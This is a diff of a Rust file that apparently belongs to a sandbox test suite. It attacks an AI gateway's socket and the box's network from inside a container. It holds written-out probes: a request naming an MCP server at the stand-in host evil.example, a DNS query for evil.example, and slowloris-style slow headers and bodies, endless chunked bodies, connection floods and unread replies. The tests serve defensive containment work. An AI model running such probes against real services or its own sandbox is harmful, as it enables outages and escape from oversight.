@@ -1,4 +1,4 @@
-//! The box's only socket, spoken to by bytes; and the networks that are not there.
+//! Attacks on the gateway's socket with raw bytes, and on networks that a box must not reach.
 
 use std::io::{Read, Write};
 use std::net::{SocketAddr, TcpStream, UdpSocket};
@@ -9,7 +9,7 @@ use rustix::net::{AddressFamily, SocketType, socket};
 
 use crate::Attack;
 use crate::evidence::{Facts, and, code, errno, fact};
-use crate::wall::Wall;
+use crate::mailbox::Mailbox;
 
 const SOCKET: &str = "/run/lazaret/gateway.sock";
 
@@ -126,10 +126,10 @@ pub const ATTACKS: &[(&str, Attack)] = &[
             r#"{"model":"m","max_tokens":100,"mcp_servers":[{"type":"url","url":"http://evil.example","name":"e"}],"messages":[{"role":"user","content":"x"}]}"#,
         )
     }),
-    ("c18_connections_without_end", |w, _| connections(w, "")),
-    ("c18_slow_headers", |w, _| connections(w, "POST /v1/messages HTTP/1.1\r\nHost: ")),
-    ("c18_slow_bodies", |w, _| {
-        connections(w, "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n{")
+    ("c18_connections_without_end", |mailbox, _| connections(mailbox, "")),
+    ("c18_slow_headers", |mailbox, _| connections(mailbox, "POST /v1/messages HTTP/1.1\r\nHost: ")),
+    ("c18_slow_bodies", |mailbox, _| {
+        connections(mailbox, "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n{")
     }),
     ("c18_a_thousand_requests_in_one_breath", pipeline),
     ("c18_answers_that_are_not_read", unread),
@@ -150,7 +150,7 @@ fn reach(places: &[&str]) -> Facts {
     and(and(fact("reached", reached), "errors", errors), "tried", places.len())
 }
 
-fn dns(_: &mut Wall, _: &[&str]) -> Facts {
+fn dns(_: &mut Mailbox, _: &[&str]) -> Facts {
     let query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x10\x00\x01";
     let mut answers = 0;
     let mut sent = 0;
@@ -170,7 +170,7 @@ fn dns(_: &mut Wall, _: &[&str]) -> Facts {
     and(and(fact("sent", sent), "answers", answers), "resolved", names)
 }
 
-fn interfaces(_: &mut Wall, _: &[&str]) -> Facts {
+fn interfaces(_: &mut Mailbox, _: &[&str]) -> Facts {
     let table = std::fs::read_to_string("/proc/net/dev").unwrap_or_default();
     let names: Vec<String> = table
         .lines()
@@ -259,7 +259,7 @@ fn body(bytes: usize) -> Facts {
 }
 
 /// Chunk after chunk, until the host has had enough.
-fn endless_body(_: &mut Wall, _: &[&str]) -> Facts {
+fn endless_body(_: &mut Mailbox, _: &[&str]) -> Facts {
     let Ok(mut stream) = UnixStream::connect(SOCKET) else { return fact("stopped", false) };
     let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
     let _ = stream.write_all(b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n");
@@ -273,7 +273,7 @@ fn endless_body(_: &mut Wall, _: &[&str]) -> Facts {
 
 /// Hundreds of connections that say so much and no more; the gateway must still serve other runs, and this one again
 /// when they are gone.
-fn connections(_: &mut Wall, beginning: &str) -> Facts {
+fn connections(_: &mut Mailbox, beginning: &str) -> Facts {
     let mut held = Vec::new();
     for _ in 0..400 {
         let Ok(mut stream) = nonblocking_connect() else { break };
@@ -300,7 +300,7 @@ fn nonblocking_connect() -> std::io::Result<UnixStream> {
     Ok(UnixStream::from(made))
 }
 
-fn pipeline(_: &mut Wall, _: &[&str]) -> Facts {
+fn pipeline(_: &mut Mailbox, _: &[&str]) -> Facts {
     let Ok(mut stream) = UnixStream::connect(SOCKET) else { return fact("answers", 0) };
     let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
     let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
@@ -320,7 +320,7 @@ fn pipeline(_: &mut Wall, _: &[&str]) -> Facts {
 }
 
 /// Asks, and never reads.
-fn unread(_: &mut Wall, _: &[&str]) -> Facts {
+fn unread(_: &mut Mailbox, _: &[&str]) -> Facts {
     let mut held = Vec::new();
     for _ in 0..10 {
         let Ok(mut stream) = nonblocking_connect() else { break };
